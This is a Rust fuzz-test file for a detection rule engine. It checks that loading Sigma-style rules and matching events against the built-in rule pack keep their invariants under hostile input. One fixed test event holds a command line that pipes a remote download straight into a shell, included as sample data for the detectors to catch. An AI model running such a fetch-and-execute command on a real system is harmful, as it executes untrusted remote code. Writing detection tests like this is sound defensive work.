//! The `load_rules` and `match_event` targets: hostile rules against fixed
//! events, and hostile events against the built-in pack.

use std::collections::BTreeSet;
use std::sync::OnceLock;

use arbitrary::{Arbitrary, Unstructured};
use contraband_engine::load::{load_engine, RuleSources};
use contraband_engine::{Engine, Scratch};
use contraband_event::{Event, LogSource, Map, Timestamp, Value};
use contraband_sigma::{
    CorrelationEngine, CorrelationLimits, LoadOptions, Loader, Prefilter, PrefilterScratch, RuleSet,
};
use contraband_sources::{read, Format, Options};
use yaml_serde::Value as Yaml;

const RULE_FILE: &str = "fuzz-rule.yml";

/// Load `data` (as lossy UTF-8) as one rule file, then judge a few events
/// with whatever loaded.
///
/// Invariants, for any input:
/// - nothing panics; loading ends with rules and/or failures;
/// - every failure names the file, a document within the limit, and a reason;
/// - no more rules than documents;
/// - each loaded rule evaluates against fixed events and against an event
///   made of the rule's own field names and values (so matches happen);
/// - see [`check_matching`] for what must hold of every match;
/// - correlations that loaded run over those matches at extreme times.
pub fn load_rules(data: &[u8]) -> Result<(), String> {
    let text = String::from_utf8_lossy(data);
    let mut loader = Loader::new(LoadOptions::default());
    loader.add_source(RULE_FILE, &text);
    let report = loader.finish();
    for f in &report.failures {
        let shown = f.to_string();
        if f.path != RULE_FILE || !shown.starts_with(RULE_FILE) {
            return Err(format!("failure does not name the file: {shown}"));
        }
        if f.document > LoadOptions::default().limits.max_documents {
            return Err(format!("failure names document {}: {shown}", f.document));
        }
        if f.error.to_string().trim().is_empty() {
            return Err(format!("failure without a reason: {shown}"));
        }
    }
    let set = &report.ruleset;
    if set.len() > report.documents {
        return Err(format!(
            "{} rules from {} documents",
            set.len(),
            report.documents
        ));
    }
    if set.is_empty() {
        return Ok(());
    }
    let prefilter = Prefilter::new(set);
    let mut events = fixed_events();
    for rule in set.rules() {
        events.push(event_from_rule_text(&text, rule.logsource.clone()));
    }
    for ev in &events {
        check_matching(set, &prefilter, ev)?;
    }
    correlate(set, &events)
}

/// Feed every match, at awkward times, to the correlations that loaded.
/// Invariants: nothing panics or overflows; each correlation match names a
/// correlation that exists and a window that is not reversed.
fn correlate(set: &RuleSet, events: &[Event]) -> Result<(), String> {
    if set.correlations().is_empty() {
        return Ok(());
    }
    let mut engine = CorrelationEngine::new(
        set.correlations(),
        CorrelationLimits {
            max_groups: 4,
            max_events_per_group: 4,
        },
    );
    let mut out = Vec::new();
    let times = [0, 1, 1_000_000_000, -1, i64::MAX, i64::MIN, i64::MAX - 1, 0];
    for (n, &t) in times.iter().enumerate() {
        for ev in events {
            let mut ev = ev.clone();
            ev.time = Timestamp(t);
            for i in 0..set.len() {
                if set.rule_matches(i, &ev) {
                    engine.feed(i, &ev, &mut out);
                }
            }
        }
        if n % 3 == 2 {
            engine.advance(t, &mut out);
        }
    }
    engine.flush(&mut out);
    for m in &out {
        if m.correlation >= set.correlations().len() || m.first_time > m.last_time {
            return Err(format!("bad correlation match {m:?}"));
        }
    }
    Ok(())
}

/// Decode `data` as generic JSON events and also read it as a structured
/// [`EventSpec`] over the pack's own field names and values; judge each
/// event with the built-in pack under every logsource the pack uses.
///
/// Invariants, for any input: nothing panics, matching is deterministic,
/// and everything [`check_matching`] requires, plus: the engine's alerts
/// are for rules that match.
pub fn match_event(data: &[u8]) -> Result<(), String> {
    let pack = pack();
    let opts = Options {
        format: Some(Format::GenericJson),
        max_record_size: 64 * 1024,
        ..Options::default()
    };
    let mut events: Vec<Event> = read(
        "fuzz-event.json",
        Box::new(std::io::Cursor::new(data.to_vec())),
        &opts,
    )
    .filter_map(Result::ok)
    .take(64)
    .collect();
    let mut u = Unstructured::new(data);
    if let Ok(spec) = EventSpec::arbitrary(&mut u) {
        events.push(spec.build(pack));
    }
    let mut scratch = Scratch::default();
    for ev in events {
        let mut variants = vec![ev.clone()];
        for ls in &pack.logsources {
            let mut e = ev.clone();
            e.logsource = ls.clone();
            variants.push(e);
        }
        for e in &variants {
            check_matching(pack.engine.rules(), &pack.prefilter, e)?;
            let mut hits = Vec::new();
            pack.engine.detect(e, &mut scratch, &mut hits);
            let matches = pack.engine.rules().matches(e);
            for h in &hits {
                if !matches.contains(&(h.rule as u32)) {
                    return Err(format!(
                        "engine hit for rule {} which does not match",
                        h.rule
                    ));
                }
            }
        }
    }
    Ok(())
}

/// What must hold whenever a rule set judges an event:
/// - `matches` is sorted, unique, in range, and deterministic;
/// - every rule `matches` reports matches on its own (`rule_matches`);
/// - the shared literal prefilter changes nothing, nor does a logsource's
///   own selection, prefiltered (from one rule) or not, which reads each
///   field once for all its rules (the memo kept from the event before
///   must not leak into this one);
/// - `matched_fields` (asked only of matching rules) names fields the
///   event has.
pub fn check_matching(set: &RuleSet, prefilter: &Prefilter, ev: &Event) -> Result<(), String> {
    let hits = set.matches(ev);
    if hits.windows(2).any(|w| w[0] >= w[1]) || hits.iter().any(|&i| i as usize >= set.len()) {
        return Err(format!("matches not sorted, unique and in range: {hits:?}"));
    }
    if set.matches(ev) != hits {
        return Err("matching the same event twice differed".into());
    }
    let mut scratch = PrefilterScratch::default();
    let mut filtered = Vec::new();
    set.matches_prefiltered(ev, prefilter, &mut scratch, &mut filtered);
    if filtered != hits {
        let rule = |i: &u32| set.rule(*i as usize).label().to_string();
        return Err(format!(
            "prefilter changed the result: without {:?}, with {:?}, for {}",
            hits.iter().map(rule).collect::<Vec<_>>(),
            filtered.iter().map(rule).collect::<Vec<_>>(),
            describe(ev)
        ));
    }
    for prefilter_from in [0, usize::MAX] {
        let sel = set.select(&ev.logsource, prefilter_from);
        let mut selected = Vec::new();
        // the scratch's last scan was of another prefilter: it must not leak
        set.matches_selection(&sel, ev, &mut scratch, &mut selected);
        if selected != hits {
            return Err(format!(
                "selection (prefilter from {prefilter_from} rules) changed the result: \
                 {hits:?} became {selected:?}, for {}",
                describe(ev)
            ));
        }
    }
    for &i in &hits {
        let i = i as usize;
        if !set.rule_matches(i, ev) {
            return Err(format!("rule {i} in matches but rule_matches says no"));
        }
        for m in set.matched_fields(i, ev) {
            if ev.get(&m.field).is_none() {
                return Err(format!(
                    "rule {} reported matched field {:?} the event lacks: {}",
                    set.rule(i).label(),
                    m.field,
                    describe(ev)
                ));
            }
        }
    }
    // Rules the logsource index did not offer still evaluate.
    for i in 0..set.len() {
        let _ = set.rule_matches(i, ev);
    }
    Ok(())
}

fn describe(ev: &Event) -> String {
    let fields = serde_json::to_string(&ev.fields).unwrap_or_default();
    format!(
        "logsource {:?} fields {}",
        ev.logsource,
        crate::decode::truncate(&fields)
    )
}

fn event(ls: LogSource, fields: Value) -> Event {
    let Value::Object(m) = fields else {
        unreachable!("fixed events are objects")
    };
    Event::new(ls, Timestamp(0), m)
}

fn fixed_events() -> Vec<Event> {
    let linux = LogSource::new(Some("linux"), Some("process_creation"), None);
    vec![
        event(LogSource::default(), serde_json::json!({})),
        event(
            linux.clone(),
            serde_json::json!({
                "Image": "/bin/sh", "CommandLine": "sh -c 'curl http://x | sh'",
                "User": "root", "ProcessId": 1, "a": {"b": [1, "x", null, true]},
                "n": 5, "f": 1.5e300, "neg": -7, "empty": "", "nul": null,
            }),
        ),
        event(
            linux,
            serde_json::json!({"x": "\u{0}\u{feff}Ä☃𝔘", "list": [], "big": 18446744073709551615u64}),
        ),
    ]
}

/// An event whose fields are the rule's own detection keys (modifiers cut)
/// with its values (wildcards cut), so loaded rules get to match.
fn event_from_rule_text(text: &str, ls: LogSource) -> Event {
    use serde::Deserialize;
    let mut fields = Map::new();
    for de in yaml_serde::Deserializer::from_str(text).take(8) {
        let Ok(doc) = Yaml::deserialize(de) else {
            break;
        };
        if let Some(det) = doc.get("detection") {
            collect_pairs(det, None, &mut fields, 0);
        }
    }
    Event::new(ls, Timestamp(0), fields)
}

fn collect_pairs(v: &Yaml, key: Option<&str>, out: &mut Map<String, Value>, depth: usize) {
    if depth > 16 || out.len() > 256 {
        return;
    }
    match v {
        Yaml::Mapping(m) => {
            for (k, v) in m {
                if let Some(k) = k.as_str() {
                    let field = k.split('|').next().unwrap_or(k);
                    collect_pairs(v, Some(field), out, depth + 1);
                }
            }
        }
        Yaml::Sequence(items) => {
            for item in items.iter().take(16) {
                collect_pairs(item, key, out, depth + 1);
            }
        }
        Yaml::String(s) => {
            if let Some(k) = key.filter(|k| !k.is_empty()) {
                let v: String = s.chars().filter(|c| !matches!(c, '*' | '?')).collect();
                out.entry(k.to_string()).or_insert(Value::String(v));
            }
        }
        Yaml::Number(n) => {
            if let Some(k) = key.filter(|k| !k.is_empty()) {
                out.entry(k.to_string())
                    .or_insert(Value::String(n.to_string()));
            }
        }
        Yaml::Tagged(t) => collect_pairs(&t.value, key, out, depth + 1),
        _ => {}
    }
}

/// The built-in pack, loaded once: its engine, a prefilter over its rules,
/// and the names and values its rules test, for [`EventSpec`].
pub struct Pack {
    pub engine: Engine,
    pub prefilter: Prefilter,
    pub logsources: Vec<LogSource>,
    pub fields: Vec<String>,
    pub values: Vec<String>,
}

pub fn pack() -> &'static Pack {
    static PACK: OnceLock<Pack> = OnceLock::new();
    PACK.get_or_init(|| {
        let (engine, _) = load_engine(&RuleSources::default()).expect("the built-in pack loads");
        let set = engine.rules();
        let prefilter = Prefilter::new(set);
        let logsources: BTreeSet<(Option<String>, Option<String>, Option<String>)> = set
            .rules()
            .iter()
            .map(|r| {
                let l = &r.logsource;
                let s = |v: &Option<std::sync::Arc<str>>| v.as_deref().map(str::to_string);
                (s(&l.product), s(&l.category), s(&l.service))
            })
            .collect();
        let logsources = logsources
            .iter()
            .map(|(p, c, s)| LogSource::new(p.as_deref(), c.as_deref(), s.as_deref()))
            .collect();
        let mut fields: Vec<String> = set.required_fields().into_iter().collect();
        let mut values = BTreeSet::new();
        for (path, text) in contraband_pack::files_under("rules/") {
            if contraband_pack::is_test_file(path) {
                continue;
            }
            let ev = event_from_rule_text(text, LogSource::default());
            for (k, v) in ev.fields {
                fields.push(k.to_string());
                if let Value::String(s) = v {
                    values.insert(s);
                }
            }
        }
        fields.sort();
        fields.dedup();
        Pack {
            engine,
            prefilter,
            logsources,
            fields,
            values: values.into_iter().collect(),
        }
    })
}

/// An event described by fuzzer bytes: field names and values drawn from
/// the pack (so rules get close to matching), mutated or replaced by
/// arbitrary ones.
#[derive(Arbitrary, Debug)]
pub struct EventSpec {
    pub fields: Vec<(Name, Val)>,
}

#[derive(Arbitrary, Debug)]
pub enum Name {
    Pack(u16),
    Nested(u16, String),
    Other(String),
}

#[derive(Arbitrary, Debug)]
pub enum Val {
    /// A value the pack tests for.
    Pack(u16),
    /// One with arbitrary text around it.
    Wrapped(String, u16, String),
    /// A pack value in another case.
    Upper(u16),
    Text(String),
    Int(i64),
    Float(f64),
    Bool(bool),
    Null,
    List(Vec<Val>),
}

impl EventSpec {
    pub fn build(&self, pack: &Pack) -> Event {
        let mut fields = Map::new();
        for (name, val) in self.fields.iter().take(32) {
            let pick = |i: &u16| pack.fields[*i as usize % pack.fields.len()].clone();
            let (key, value) = match name {
                Name::Pack(i) => (pick(i), val.to_json(pack, 0)),
                // `a.b` in a rule also finds `{"a": {"b": ..}}`.
                Name::Nested(i, rest) => {
                    let full = pick(i);
                    let (head, tail) = full.split_once('.').unwrap_or((&full, rest));
                    let mut inner = Map::new();
                    inner.insert(tail.to_string(), val.to_json(pack, 0));
                    (head.to_string(), Value::Object(inner))
                }
                Name::Other(s) => (s.clone(), val.to_json(pack, 0)),
            };
            fields.insert(key, value);
        }
        Event::new(LogSource::default(), Timestamp(0), fields)
    }
}

impl Val {
    fn to_json(&self, pack: &Pack, depth: usize) -> Value {
        let pick = |i: &u16| {
            pack.values
                .get(*i as usize % pack.values.len().max(1))
                .cloned()
                .unwrap_or_default()
        };
        match self {
            Val::Pack(i) => Value::String(pick(i)),
            Val::Wrapped(a, i, b) => Value::String(format!("{a}{}{b}", pick(i))),
            Val::Upper(i) => Value::String(pick(i).to_uppercase()),
            Val::Text(s) => Value::String(s.clone()),
            Val::Int(n) => Value::from(*n),
            Val::Float(f) => Value::from(*f),
            Val::Bool(b) => Value::Bool(*b),
            Val::Null => Value::Null,
            Val::List(items) if depth < 4 => Value::Array(
                items
                    .iter()
                    .take(8)
                    .map(|v| v.to_json(pack, depth + 1))
                    .collect(),
            ),
            Val::List(_) => Value::Null,
        }
    }
}
